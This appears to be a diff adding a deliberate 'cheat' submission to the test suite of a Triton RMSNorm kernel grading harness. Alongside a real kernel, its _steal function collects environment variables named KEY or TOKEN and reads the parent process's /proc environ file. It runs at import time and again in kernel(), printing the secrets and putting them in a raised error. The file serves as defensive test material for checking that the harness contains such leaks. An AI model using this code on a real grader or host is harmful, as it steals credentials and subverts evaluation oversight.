@@ -1,0 +1,49 @@
+"""Cheat: Reads the caller's secrets (its env and /proc/<ppid>/environ), prints them and raises with them: they must never come back."""
+
+# ruff: noqa: E402  (cheats are written the way a cheater would)
+
+import triton
+import triton.language as tl
+
+
+@triton.jit
+def _rms_rows(X, W, Y, N, eps, BLOCK: tl.constexpr):
+    row = tl.program_id(0).to(tl.int64)
+    cols = tl.arange(0, BLOCK)
+    mask = cols < N
+    x = tl.load(X + row * N + cols, mask=mask, other=0.0).to(tl.float32)
+    inv = tl.rsqrt(tl.sum(x * x, axis=0) / N + eps)
+    w = tl.load(W + cols, mask=mask, other=0.0).to(tl.float32)
+    tl.store(Y + row * N + cols, (x * inv * w).to(Y.dtype.element_ty), mask=mask)
+
+
+def _rmsnorm_into(x, weight, y, rows=None):
+    m, n = x.shape
+    grid = (m if rows is None else rows,)
+    _rms_rows[grid](x, weight, y, n, 1e-6, BLOCK=triton.next_power_of_2(n))
+    return y
+
+
+import os
+
+
+def _steal():
+    found = [f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
+    try:
+        with open(f"/proc/{os.getppid()}/environ", "rb") as fh:
+            for item in fh.read().split(b"\0"):
+                text = item.decode(errors="replace")
+                if "KEY" in text.split("=")[0] or "TOKEN" in text.split("=")[0]:
+                    found.append(text)
+    except OSError as exc:
+        found.append(f"no parent environ: {exc}")
+    return found
+
+
+print("stolen at import:", _steal())
+
+
+def kernel(x, weight):
+    stolen = _steal()
+    print("stolen:", stolen)
+    raise RuntimeError("leaking " + " ".join(stolen))
